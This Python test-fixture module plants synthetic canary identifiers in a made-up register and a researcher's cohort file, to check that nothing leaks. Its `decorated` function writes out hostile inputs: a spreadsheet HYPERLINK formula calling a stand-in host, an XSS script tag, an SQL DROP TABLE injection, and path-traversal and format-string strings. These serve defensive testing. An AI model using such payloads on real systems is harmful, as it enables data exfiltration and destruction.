"""Poison: values that no sink may show, in a made-up register and in a researcher's cohort.

Every poisoned text holds a root, seven letters that occur nowhere else, so that one search finds all
of them, cut, escaped or in another case. Numbers and birth dates are searched as they are.
"""

import csv
import datetime as dt
import hashlib
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from systems.description.loading import load_system
from systems.standard import STANDARD_COLUMNS

REGISTER, COHORT, ID, FREE = "QZXVJKW", "WKJVXZQ", "XQJZWVK", "JWQKZXV"
"""Roots: of the register, of what the researcher supplied, of the researcher's ids, of anything else."""

LINKED, STRANGERS = 40, 90


@dataclass
class Needles:
    """What is searched for."""

    roots: tuple[str, ...] = (REGISTER, COHORT, ID, FREE)
    numbers: set[str] = field(default_factory=set)
    dates: set[str] = field(default_factory=set)

    def but(self, *roots: str) -> "Needles":
        """The same without some roots, for a place that may show them."""
        kept = tuple(root for root in self.roots if root not in roots)
        return Needles(kept, self.numbers, self.dates)


def decorated(text: str, number: int) -> str:
    """Dress a text up, by turns, as what breaks programs that print, store or parse it."""
    return (
        text,
        f'=HYPERLINK("http://192.0.2.1/{text}";"open")',
        f"<script>alert('{text}')</script><b>{text}</b>",
        f"'; DROP TABLE person; -- {text}",
        f"{text} " * 400,
        f"\x07\x1b[31m{text}\x1b[0m\x7f",
        f"ÑÜÇ{text}éß",
        f"{text}\n{text}\r\n\t{text}",
        f"../../{text}/%s{{0}}%n",
        f'{text}","{text}',
    )[number % 10]


def digits(text: str, length: int) -> str:
    """Digits that follow from a text alone; the first is never zero."""
    number = int.from_bytes(hashlib.sha256(text.encode()).digest()[:8], "big")
    return str(10 ** (length - 1) + number % (9 * 10 ** (length - 1)))


# ------------------------------------------------------------------ the register

_NAMES = {"last", "first"}  # compared by linkage: poisoned, and still somebody's
_ALSO = {
    ("person_contact", "city"), ("vehicle", "model"), ("agency", "name"), ("court", "name"),
    ("pharmacy", "name"), ("prescription", "drug_name"), ("stop", "city"), ("stop", "location"),
}  # fmt: skip


def poison_register(folder: Path, needles: Needles, system: str = "CARPOS") -> None:
    """Put canaries into every column of direct identifiers of a made-up register, keeping its mark."""
    for table in load_system(system).tables:
        path = folder / f"{table.name}.parquet"
        given = pq.read_table(path)
        made = given
        for column in table.columns:
            direct = column.identifier_class == "D" or (table.name, column.name) in _ALSO
            if direct and column.name in given.column_names and column.codes is None:
                values = _poisoned(table.name, column.name, given, needles)
                index = made.column_names.index(column.name)
                made = made.set_column(index, column.name, values)
        pq.write_table(made.replace_schema_metadata(given.schema.metadata), path)


def _poisoned(table: str, column: str, given: pa.Table, needles: Needles) -> pa.Array:
    values = given[column].to_pylist()
    if column == "dob":
        needles.dates |= {day.isoformat() for day in values if day}
        return pa.array(values, pa.date32())
    if column in {"pob", "zip"}:  # two letters, five figures: no room
        return pa.array(values, pa.string())
    if column in {"cii_number", "dea_number"}:  # letters and figures by a pattern: searched whole
        needles.numbers |= {number for number in values if number}
        return pa.array(values, pa.string())
    if column in {"xref_number", "officer_id"}:  # twelve letters or figures at most
        return pa.array([v and REGISTER + digits(v, 5) for v in values], pa.string())
    if column == "fcn":
        made = [v and digits(v, 13) for v in values]
        needles.numbers |= {number for number in made if number}
        return pa.array(made, pa.string())
    if column == "phone":
        needles.numbers |= {number for number in values if number}
        return pa.array(values, pa.string())
    if column == "value":
        kinds = given["kind"].to_pylist()
        needles.numbers |= {v for v, k in zip(values, kinds, strict=True) if k == "SSN"}
        made = [v if k == "SSN" else v + REGISTER for v, k in zip(values, kinds, strict=True)]
        return pa.array(made, pa.string())
    return pa.array([_text(column, v, i) for i, v in enumerate(values)], pa.string())


def _text(column: str, value: str | None, row: int) -> str | None:
    if column in _NAMES:
        return value and value.replace(" ", "") + REGISTER
    if column in {"middle", "suffix", "street", "city"}:
        # Most rows keep to the form of a name, so that linkage still works; some do not.
        plain = f"{value or column[:2].upper()}{REGISTER}"
        if value is None and row % 9:
            return None
        return decorated(plain, row) if row % 7 == 0 else plain
    return decorated(f"{value or column}{REGISTER}", row)


# ------------------------------------------------------------------ the cohort


@dataclass(frozen=True)
class Supplied:
    """A cohort as the researcher supplied it."""

    path: Path
    rows: list[dict[str, str]]


def people_on_orders(folder: Path) -> list[dict[str, str]]:
    """Poisoned respondents with name, birth date and number, one entry each."""
    read = {n: pq.read_table(folder / f"{n}.parquet").to_pylist() for n in _TABLES}
    born = {p["person_id"]: p["dob"] for p in read["person"]}
    names = {n["person_id"]: n for n in read["person_name"] if n["seq"] == 1}
    numbers = {n["person_id"]: n["value"] for n in read["person_identifier"] if n["kind"] == "SSN"}
    found: dict[str, dict[str, str]] = {}
    for party in read["order_party"]:
        person = party["person_id"]
        name, ssn, birth = names.get(person), numbers.get(person), born.get(person)
        if party["role"] == "respondent" and name and ssn and birth and name["first"]:
            found.setdefault(
                ssn,
                {
                    "first_name": name["first"],
                    "last_name": name["last"],
                    "birth_date": birth.isoformat(),
                    "ssn": ssn,
                },
            )
    return list(found.values())


_TABLES = ("person", "person_name", "person_identifier", "order_party")


def write_cohort(path: Path, folder: Path, needles: Needles) -> Supplied:
    """A cohort with canaries in every column: people on orders, strangers, and rows gone wrong."""
    known = people_on_orders(folder)
    rows = [_own(i) | person for i, person in enumerate(known[:LINKED])]
    rows += [_nearly(person, i) for i, person in enumerate(known[LINKED : LINKED + 24])]
    rows += [_own(i) for i in range(100, 100 + STRANGERS)]
    rows += [
        _own(300) | {"birth_date": bad} for bad in ("1790-01-01", "2031-02-30", f"13 {COHORT}")
    ]
    rows += [_own(310 + i) | {"last_name": decorated(f"BAD{COHORT}", i)} for i in range(10)]
    rows += [_own(330) | {"phone": "(916) 555-01xx"}, _own(330) | {"sex": f"F{COHORT}"}]
    for i, row in enumerate(rows):
        row["cohort_id"] = f"{ID}-{i:04d}"
    needles.numbers |= {"".join(filter(str.isdigit, r["ssn"])) for r in rows if r["ssn"]}
    needles.dates |= {r["birth_date"] for r in rows if r["birth_date"][:2] in {"19", "20"}}
    with path.open("w", encoding="utf-8", newline="") as sink:
        writer = csv.DictWriter(sink, ["cohort_id", *STANDARD_COLUMNS])
        writer.writeheader()
        writer.writerows(rows)
    # Days on which orders were issued are no secret of anybody's, nor is the first day of all clocks.
    needles.dates -= {day for day in needles.dates if day >= "2010" or day == "1970-01-01"}
    return Supplied(path, rows)


def _nearly(person: dict[str, str], number: int) -> dict[str, str]:
    """Somebody on an order, written down so badly that a reviewer may have to look."""
    year, month, day = person["birth_date"].split("-")
    other = f"{int(year) + 1}-{month}-{day}"
    last, first = person["last_name"], person["first_name"]
    written = (
        {"last_name": last, "birth_date": person["birth_date"]},
        {"last_name": last, "first_name": first},
        {"last_name": last, "first_name": first, "birth_date": other},
        {"last_name": last[1:], "first_name": first[:1], "birth_date": person["birth_date"]},
        {"last_name": last, "birth_date": f"{year}-{month}-{(int(day) % 28) + 1:02d}"},
        {"first_name": first, "birth_date": person["birth_date"]},
    )[number % 6]
    return _blank() | written


def _blank() -> dict[str, str]:
    return dict.fromkeys(STANDARD_COLUMNS, "")


def _own(number: int) -> dict[str, str]:
    """A row in which every column is a canary of the researcher's own."""
    seed = digits(f"stranger {number}", 12)
    born = dt.date(1950, 1, 1) + dt.timedelta(days=int(seed[:5]) % 18_000)
    letters = "".join(chr(65 + int(d)) for d in seed)
    return {
        "first_name": f"{letters[:5]}{COHORT}",
        "middle_name": decorated(f"M{COHORT}", number) if number % 10 not in {4, 5} else "",
        "last_name": f"{letters[5:]}{COHORT}",
        "name_suffix": f"JR{COHORT}" if number % 5 == 0 else "",
        "birth_date": born.isoformat(),
        "sex": "F" if number % 2 else "M",
        "ssn": f"{seed[:3]}-{seed[3:5]}-{seed[5:9]}",
        "driver_license": f"D{seed[:7]}{COHORT}",
        "dl_state": "CA",
        "street": decorated(f"{number} MAIN {COHORT}", number) if number % 10 not in {4, 5} else "",
        "city": f"DAVIS{COHORT}",
        "zip": "95616",
        "county": f"YOLO{COHORT}",
        "phone": f"916555{seed[:4]}",
    }
